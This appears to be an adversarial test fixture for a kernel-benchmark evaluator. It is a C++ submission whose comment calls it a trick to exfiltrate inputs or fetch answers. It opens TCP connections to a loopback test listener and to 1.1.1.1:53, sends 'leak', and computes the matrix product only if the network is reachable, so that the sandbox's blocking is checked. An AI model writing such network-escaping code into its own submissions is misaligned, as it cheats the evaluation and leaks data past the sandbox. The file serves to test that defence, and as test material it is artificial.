// Trick: open a network socket (to exfiltrate inputs or fetch answers): a TCP connection to a listener on the
// host's loopback and to a public address. It writes the answer only if a connection succeeded, so under the
// sandbox (a fresh network namespace) the output stays unwritten. Expected: INCORRECT_NUMERICAL (never written).
#include <arpa/inet.h>
#include <cstdio>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>
#include <tvm/ffi/container/tensor.h>
#include <tvm/ffi/function.h>

// fp32 C[M,N] = A[M,K] @ B[N,K]^T on host tensors (task tests/evaluator/tasks/tiny_gemm, CPU mode).
static void host_gemm(tvm::ffi::TensorView a, tvm::ffi::TensorView b, tvm::ffi::TensorView c) {
  const int64_t m = a.shape()[0], k = a.shape()[1], n = b.shape()[0];
  const float* pa = static_cast<const float*>(a.data_ptr());
  const float* pb = static_cast<const float*>(b.data_ptr());
  float* pc = static_cast<float*>(c.data_ptr());
  for (int64_t i = 0; i < m; ++i)
    for (int64_t j = 0; j < n; ++j) {
      float acc = 0.f;
      for (int64_t p = 0; p < k; ++p) acc += pa[i * k + p] * pb[j * k + p];
      pc[i * n + j] = acc;
    }
}

static bool connect_to(const char* ip, int port) {
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  if (fd < 0) return false;
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(port);
  inet_pton(AF_INET, ip, &addr.sin_addr);
  timeval tv{2, 0};
  setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
  bool ok = connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr) == 0;
  if (ok) { ssize_t ignored = write(fd, "leak\n", 5); (void)ignored; }
  close(fd);
  std::printf("connect %s:%d: %s\n", ip, port, ok ? "CONNECTED" : "failed");
  return ok;
}

void run_impl(tvm::ffi::TensorView a, tvm::ffi::TensorView b, tvm::ffi::TensorView c) {
  // 47613: the port the CPU test listens on (tests/evaluator/test_adversarial_cpu.py).
  bool reached = connect_to("127.0.0.1", 47613);
  reached = connect_to("1.1.1.1", 53) || reached;
  if (reached) host_gemm(a, b, c);
}

TVM_FFI_DLL_EXPORT_TYPED_FUNC(run, run_impl);
